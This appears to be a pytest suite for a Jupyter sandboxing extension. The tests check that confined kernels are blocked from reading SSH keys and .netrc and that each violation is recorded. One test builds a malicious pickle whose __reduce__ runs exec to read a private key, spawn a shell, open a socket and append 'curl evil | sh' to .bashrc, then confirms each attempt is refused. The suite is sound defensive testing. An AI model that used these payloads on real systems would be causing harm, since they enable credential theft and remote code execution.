from __future__ import annotations

import base64
import json
import pickle
import signal
import statistics
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest
import requests

from .server import CONFINED, UNTRUSTED, Home, RemoteKernel, Server


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Home:
    return Home(tmp_path_factory.mktemp("j"))


@pytest.fixture(scope="module")
def server(home: Home) -> Iterator[Server]:
    server = home.server()
    yield server
    server.stop()


@pytest.fixture
def kernel(server: Server) -> Iterator[RemoteKernel]:
    with server.kernel(CONFINED) as kernel:
        yield kernel


def _refused(page: Any, resource: str) -> list[dict[str, Any]]:
    return [item for item in page["alerts"] if resource in item["alert"].get("Resource", "")]


def test_the_state_tells_confined_kernels_from_others(server: Server, kernel: RemoteKernel) -> None:
    with server.kernel("python3", "work/other.ipynb") as other:
        listed = {item["kernel_id"]: item for item in server.get("modelarmor/api/kernels")}
        detail = server.get(f"modelarmor/api/kernels/{kernel.id}")

        assert listed[other.id]["confined"] is False
        assert "Nothing confines it: it was started as 'Python 3" in listed[other.id]["why"]
        assert listed[kernel.id]["confined"] is True
        assert listed[kernel.id]["profile"]["name"] == "notebook"
        assert "plan" not in listed[kernel.id]
        assert detail["plan"]["rules"]
        assert detail["counts"]["total"] == sum(detail["counts"]["by_action"].values())
        assert other.alerts()["alerts"] == []
        assert other.alerts()["confined"] is False


@pytest.mark.parametrize("path", ["kernels", "kernels/{id}", "kernels/{id}/alerts"])
def test_nothing_is_told_without_authentication(
    server: Server, kernel: RemoteKernel, path: str
) -> None:
    url = f"{server.url}modelarmor/api/{path.format(id=kernel.id)}"

    assert requests.get(url, timeout=60).status_code == 403
    assert requests.get(url, headers={"Authorization": "token x"}, timeout=60).status_code == 403
    for verb in ("post", "put", "patch", "delete"):
        assert requests.request(verb, url, timeout=60).status_code == 403
        assert server.http.request(verb, url, timeout=60).status_code == 405


def test_an_authorizer_is_asked_about_our_resource(tmp_path: Path) -> None:
    home = Home(tmp_path)
    server = home.server(
        "from jupyter_server.auth import AllowAllAuthorizer\n"
        "class NotTheRecord(AllowAllAuthorizer):\n"
        "    def is_authorized(self, handler, user, action, resource):\n"
        "        return resource != 'modelarmor'\n"
        "c.ServerApp.authorizer_class = NotTheRecord\n"
    )
    try:
        with server.kernel("python3") as kernel:
            assert server.status("modelarmor/api/kernels") == 403
            assert server.status(f"modelarmor/api/kernels/{kernel.id}") == 403
            assert server.status(f"modelarmor/api/kernels/{kernel.id}/alerts") == 403
            assert server.status("api/kernels") == 200
    finally:
        server.stop()


@pytest.mark.parametrize(
    "query",
    [
        {"after": "-1"}, {"after": "x"}, {"after": "1e3"}, {"after": "9" * 400}, {"after": ""},
        {"limit": "0"}, {"limit": "1001"}, {"limit": "\u0663"},
    ],
)  # fmt: skip
def test_a_number_that_is_none_is_a_bad_request(
    server: Server, kernel: RemoteKernel, query: dict[str, str]
) -> None:
    assert server.status(f"modelarmor/api/kernels/{kernel.id}/alerts", **query) == 400


def test_a_kernel_that_is_none_is_refused(server: Server) -> None:
    for wrong in ("x", "..", "%2e%2e", "a" * 5_000, "'--", "%00"):
        for path in (f"modelarmor/api/kernels/{wrong}", f"modelarmor/api/kernels/{wrong}/alerts"):
            assert server.status(path) in (400, 404)
    gone = "00000000-0000-0000-0000-000000000000"
    answer = server.http.get(f"{server.url}modelarmor/api/kernels/{gone}", timeout=60)
    assert (answer.status_code, answer.json()["message"][:24]) == (404, "there is no such kernel,")


def test_what_every_kernel_is_refused_as_it_starts_is_marked(server: Server) -> None:
    with server.kernel(UNTRUSTED) as kernel:
        kernel.run("1")
        kernel.about("uname")
        lines = kernel.alerts()["alerts"]
        assert all(line["cell"] == {"attributed": "startup"} and line["expected"] for line in lines)


def test_a_refused_read_is_in_the_record_with_its_cell(home: Home, kernel: RemoteKernel) -> None:
    kernel.run("1")
    cell = kernel.run(f"open({str(home.path / '.ssh' / 'id_ed25519')!r}).read()")

    [item] = kernel.about("id_ed25519")
    assert "PermissionError" in cell.said
    assert item["cell"] == {
        "attributed": "time",
        "msg_id": cell.msg_id,
        "execution_count": cell.execution_count,
    }
    assert item["alert"]["Action"] == "Block"
    assert item["alert"]["Operation"] == "File"
    assert item["alert"]["Result"] == "Permission denied"
    assert item["alert"]["Enforcer"] == "ModelArmor"


def test_a_thread_that_outlives_its_cell_is_recorded_after_it(
    home: Home, kernel: RemoteKernel
) -> None:
    cell = kernel.run(
        "import threading, os\n"
        "go = threading.Event()\n"
        "def later():\n"
        "    go.wait()\n"
        f"    os.open({str(home.path / '.netrc')!r}, os.O_RDONLY)\n"
        "threading.excepthook = lambda *_: None\n"
        "threading.Thread(target=later).start()\n"
        "threading.Timer(.5, go.set).start()\n"
    )
    [item] = kernel.about(".netrc")

    assert item["cell"] == {
        "attributed": "after",
        "msg_id": cell.msg_id,
        "execution_count": cell.execution_count,
    }


def test_a_violation_can_be_read_as_soon_as_it_happened(home: Home, kernel: RemoteKernel) -> None:
    """The cell says when the call was refused; the clock stops when the answer holds it."""
    seconds = []
    for n in range(20):
        secret = home.path / f".secret-{n}"
        secret.touch()
        msg_id = kernel.send(
            "import os, time\n"
            f"try: os.open({str(secret)!r}, os.O_RDONLY)\n"
            "except PermissionError: print(time.time(), flush=True)\n"
            "time.sleep(.05)\n"
        )
        last = kernel.server.get(f"modelarmor/api/kernels/{kernel.id}")["last"]
        deadline = time.monotonic() + 60
        while not _refused(kernel.alerts(after=max(0, last - 5)), secret.name):
            assert time.monotonic() < deadline
        readable = time.time()
        seconds.append(readable - float(kernel.finish(msg_id).said))
    print(f"readable after {1000 * statistics.median(seconds):.1f} ms (median)")


def test_each_of_a_hundred_thousand_refused_opens_is_counted_and_nobody_waits(
    home: Home, server: Server, kernel: RemoteKernel
) -> None:
    kernel.run("1")  # what it is refused at its start is in the record by now
    before = _counts(kernel)["total"]
    with server.kernel(UNTRUSTED, "work/bystander.ipynb") as bystander:
        quiet = [_round_trip(bystander) for _ in range(50)]
        msg_id = kernel.send(
            "import os\n"
            "refused = 0\n"
            "for n in range(100_000):\n"
            f"    try: os.open({str(home.path / '.ssh' / 'id_ed25519')!r}, os.O_RDONLY)\n"
            "    except PermissionError: refused += 1\n"
            "print(refused)\n"
        )
        started = time.perf_counter()
        cells, answers = [], []
        state: dict[str, Any] = {}
        deadline = time.monotonic() + 90
        while state.get("execution_state") != "idle" or len(cells) < 20:
            assert time.monotonic() < deadline
            cells.append(_round_trip(bystander))
            asked = time.perf_counter()
            state = server.get(f"api/kernels/{kernel.id}")
            answers.append(time.perf_counter() - asked)
        flood = time.perf_counter() - started
        cell = kernel.finish(msg_id)
        # the end of a flood is reported as one number, a moment later
        while (counts := _counts(kernel))["total"] - before < 100_000:
            assert time.monotonic() < deadline, counts
    print(
        f"flood of {flood:.1f} s; another kernel's cell: {1000 * statistics.median(quiet):.1f} ms"
        f" before, {1000 * statistics.median(cells):.1f} ms during;"
        f" the server's answer: {1000 * statistics.median(answers):.1f} ms during,"
        f" at worst {1000 * max(answers):.1f} ms; suppressed {counts['suppressed']}"
    )

    assert cell.said.strip() == "100000"
    assert counts["total"] - before == 100_000
    page = kernel.alerts(after=0, limit=1000)
    assert page["missed"] + len(page["alerts"]) <= page["last"]


def _counts(kernel: RemoteKernel) -> Any:
    return kernel.server.get(f"modelarmor/api/kernels/{kernel.id}")["counts"]


def _round_trip(kernel: RemoteKernel) -> float:
    started = time.perf_counter()
    kernel.run("1")
    return time.perf_counter() - started


def test_the_doorbell_says_that_there_is_something_to_read(
    home: Home, server: Server, kernel: RemoteKernel
) -> None:
    kernel.run("1")
    events = server.listen("api/events/subscribe")
    kernel.run(f"import os\ntry: os.listdir({str(home.path / '.ssh')!r})\nexcept OSError: pass")
    while "seq" not in (event := json.loads(events.recv())) or event["kernel_id"] != kernel.id:
        pass
    events.close()

    assert event["schema_id"].endswith("/violation/v1")
    assert event["seq"] <= kernel.alerts()["last"]
    assert ".ssh" in event["summary"]
    assert event["action"] == "Block"


def test_a_restart_keeps_the_record_and_its_numbers(home: Home, kernel: RemoteKernel) -> None:
    read = (
        f"import os\ntry: os.open({str(home.path / '.netrc')!r}, 0)\nexcept OSError as e: print(e)"
    )
    kernel.run(read)
    before = kernel.about(".netrc")[-1]["seq"]
    for _ in range(2):
        url = f"{kernel.server.url}api/kernels/{kernel.id}/restart"
        assert kernel.server.http.post(url, timeout=60).status_code == 200
    kernel.reconnect()
    cell = kernel.run(read)

    first, last = kernel.about(".netrc", count=2)
    assert first["seq"] == before < last["seq"]
    assert last["cell"]["msg_id"] == cell.msg_id
    assert last["cell"]["execution_count"] == 1


def test_a_kernel_that_may_not_start_says_why_to_its_user(home: Home, server: Server) -> None:
    answer = server.start(CONFINED, "n.ipynb")

    assert answer.status_code == 500
    assert f"{home.path} is the home directory" in answer.json()["message"]
    assert "c.ModelArmor.workspace" in answer.json()["message"]


class Payload:
    """What a pickled model runs when it is loaded."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self.code,)


def test_a_model_that_carries_code_is_refused_each_attempt(home: Home, server: Server) -> None:
    bashrc, key = home.path / ".bashrc", home.path / ".ssh" / "id_ed25519"
    attempts = {
        "key": f"open({str(key)!r}).read()",
        "shell": "import subprocess; subprocess.run(['/bin/sh', '-c', 'id'], check=True)",
        "network": "import socket; socket.create_connection(('93.184.215.14', 80), 3)",
        "bashrc": f"open({str(bashrc)!r}, 'a').write('curl evil | sh')",
    }
    with server.kernel(UNTRUSTED) as kernel:
        kernel.run("import base64, pickle")
        cells = {}
        for name, code in attempts.items():
            model = base64.b64encode(pickle.dumps(Payload(code)))
            cells[name] = kernel.run(f"pickle.loads(base64.b64decode({model!r}))")
        page = kernel.alerts()
        by_cell: dict[str, list[dict[str, Any]]] = {}
        for item in page["alerts"]:
            by_cell.setdefault(item["cell"].get("msg_id", ""), []).append(item["alert"])

    assert "PermissionError" in cells["key"].said
    assert "PermissionError" in cells["shell"].said
    assert "PermissionError" in cells["network"].said
    assert "PermissionError" in cells["bashrc"].said
    assert bashrc.read_text() == "# as it was\n"
    expected = {"key": "File", "shell": "Process", "network": "Network", "bashrc": "File"}
    resources = {"key": str(key), "shell": "sh", "network": "", "bashrc": str(bashrc)}
    for name, operation in expected.items():
        refused = by_cell[cells[name].msg_id]
        assert [
            alert
            for alert in refused
            if alert["Operation"] == operation
            and alert["Action"] == "Block"
            and resources[name] in alert["Resource"]
        ], (name, refused)


def test_nothing_is_left_of_a_server_that_was_killed(tmp_path: Path) -> None:
    home = Home(tmp_path)
    server = home.server()
    try:
        answer = server.start(CONFINED)
        assert answer.status_code == 201, answer.text
        kernel = RemoteKernel(server, answer.json()["kernel"]["id"])
        kernel.run(
            "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0: time.sleep(600)\n"
            "    os._exit(0)\n"
            "os.wait()\n"
        )
        # the daemon is no child of the server's by now, so it is found by what only kernels have
        family = psutil.Process(server.process.pid).children(recursive=True)
        confined = [
            process
            for process in psutil.process_iter(["environ"])
            if str(home.scratch) in (process.info["environ"] or {}).get("TMPDIR", "")
        ]
        assert len({*family, *confined}) >= 3  # helper, kernel, daemon
    finally:
        server.process.send_signal(signal.SIGKILL)
        server.process.wait()

    _, alive = psutil.wait_procs([*family, *confined], timeout=60)
    assert alive == []
    assert [item for item in home.scratch.iterdir() if item.is_dir()]

    again = home.server()
    try:
        assert list(home.scratch.iterdir()) == []
    finally:
        again.stop()
